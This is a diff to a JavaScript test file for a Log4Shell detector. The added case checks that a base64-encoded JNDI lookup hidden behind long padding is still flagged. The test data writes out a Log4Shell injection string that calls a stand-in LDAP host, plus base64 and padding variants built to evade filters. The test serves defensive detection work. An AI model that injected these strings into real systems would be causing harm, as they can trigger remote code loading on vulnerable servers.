@@ -132,7 +132,9 @@ describe("expression analyzer: Log4Shell", () => {
 
   test("a lookup sent in base64: Log4j decodes it and substitutes what it gives", () => {
     const encoded = Buffer.from("${jndi:ldap://x.example/a}").toString("base64");
-    for (const s of [`\${base64:${encoded}}`, `\${\${base64:${encoded}}}`, `x \${base64:${encoded}} y`]) expect(top(s, "log4shell")).toBe(0.97);
+    // Padding in front decodes to NULs in front: a long text hides nothing.
+    const padded = `${"AAAA".repeat(2000)}${encoded}`;
+    for (const s of [`\${base64:${encoded}}`, `\${\${base64:${encoded}}}`, `x \${base64:${encoded}} y`, `\${base64:${padded}}`]) expect(top(s, "log4shell")).toBe(0.97);
     expect(top(`\${base64:${Buffer.from("hello").toString("base64")}}`, "log4shell")).toBe(0);
   });
 });
